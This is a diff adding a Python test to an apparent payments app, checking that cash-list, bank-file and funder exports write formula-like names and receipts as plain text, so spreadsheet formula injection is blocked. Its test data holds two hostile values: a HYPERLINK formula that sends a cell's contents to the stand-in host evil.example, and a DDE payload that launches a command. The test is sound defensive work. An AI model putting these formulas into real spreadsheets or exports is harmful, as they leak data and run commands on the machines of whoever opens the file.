@@ -222,3 +222,36 @@ def test_uploading_a_reconciliation_file_is_a_job_that_names_bad_rows(team_a, of
     assert "2 lines reconciled" in page
     run.refresh_from_db()
     assert run.state == RunState.RECONCILED
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+
+
+def test_no_export_writes_a_live_formula(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
+    """An alias (or a receipt) typed as a formula is written as text in every CSV and XLSX:
+    the cash list, the bank file and the funder's export."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    run, lines = _disbursed(team_a, officers, finance, funder, n=2)
+    lines[0].person.alias = HOSTILE
+    lines[0].person.save()
+    lines[1].person.alias = "@SUM(1+1)*cmd|' /C calc'!A0"
+    lines[1].person.save()
+    PaymentLine.objects.filter(pk=lines[0].pk).update(receipt="+1-2")
+    lines = list(run.lines.select_related("person").order_by("person__case_code"))
+    sheet = load_workbook(io.BytesIO(exports.cash_list_xlsx(run, lines))).active
+    assert sheet.cell(row=2, column=3).value == HOSTILE and sheet.cell(row=2, column=3).data_type == "s"
+    assert sheet.cell(row=3, column=3).data_type == "s"
+    funder_rows = list(csv.reader(io.StringIO(exports.funder_export(lines))))
+    assert funder_rows[1][2] == "'" + HOSTILE and funder_rows[2][2].startswith("'@")
+    bank_rows = list(csv.reader(io.StringIO(exports.run_csv(lines))))
+    assert bank_rows[1][5] == "'+1-2" and bank_rows[1][2] == "700.00"  # a number stays a number
+    # The bank file comes back for reconciliation: the receipt is read as typed.
+    bank_rows[1][4:7] = ["paid", bank_rows[1][5], "05/11/2026"]
+    bank_rows[2][4:7] = ["not_collected", "", "45966"]
+    out = io.StringIO()
+    csv.writer(out).writerows(bank_rows)
+    report = exports.read_reconciliation(run, out.getvalue().encode(), {line.pk for line in lines})
+    assert report.errors == [] and [mark.receipt for mark in report.marks if mark.receipt] == ["+1-2"]
